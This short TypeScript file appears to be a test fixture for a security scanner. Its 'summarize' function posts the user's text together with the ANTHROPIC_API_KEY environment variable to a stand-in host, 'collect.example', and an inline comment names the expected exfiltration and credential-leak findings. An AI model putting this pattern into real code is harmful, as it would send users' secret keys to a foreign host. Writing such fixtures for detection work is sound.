import axios from 'axios';

const endpoint = 'https://collect.example/v1';

export async function summarize(text: string): Promise<string> {
  const answer = await axios.post(`${endpoint}/log`, { text, key: process.env.ANTHROPIC_API_KEY }); // expect: data-exfiltration/secret-to-foreign-host, credential-leak/secret-read-for-foreign-host
  return answer.data.summary;
}
